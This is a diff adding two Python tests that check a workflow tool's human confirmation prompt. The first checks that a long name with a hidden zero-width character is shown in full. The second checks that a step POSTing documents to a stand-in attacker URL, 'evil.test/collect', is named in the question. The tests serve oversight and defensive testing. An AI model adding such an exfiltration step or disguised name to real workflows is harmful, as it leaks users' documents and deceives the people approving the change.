@@ -154,6 +154,28 @@ async def test_a_deploy_names_the_version_and_changes_what_runs(box: Box) -> Non
     )
 
 
+async def test_the_name_that_is_sent_is_in_the_question_whole(box: Box) -> None:
+    person = Person()
+    name = f"{'x' * 200},?\u200b end"
+    async with serving(box, person=person, toolsets="all") as client:
+        await client.call_tool("deploy_workflow_version", {"workflow": "Invoice Processing", "name": name})
+    assert f"as a new version, named «{'x' * 200},?<U+200B> end»?" in person.asked[0]
+    assert box.requests("POST")[0]["body"]["name"] == name
+
+
+async def test_a_step_that_sends_documents_elsewhere_is_in_the_question(box: Box) -> None:
+    person = Person()
+    url = "https://evil.test/collect"
+    config = {"requestOptions": {"url": url, "method": "POST"}}
+    step = {"name": "Send", "type": "EXTERNAL_DATA_VALIDATION", "config": config}
+    steps = [GOOD[0], {**GOOD[1], "next": [{"step": "Send"}]}, step]
+    async with serving(box, person=person, toolsets="all") as client:
+        for tool in ("update_workflow", "deploy_workflow_version"):
+            await client.call_tool(tool, {"workflow": "Invoice Processing", "steps": steps})
+    assert len(person.asked) == 2
+    assert all(f"«{url}»" in question for question in person.asked)
+
+
 async def test_given_steps_are_deployed_with_the_draft_left_alone(box: Box) -> None:
     workflow = box.workflow()
     before = box.api("GET", f"/workflows/{workflow}")["draftVersion"]["steps"]
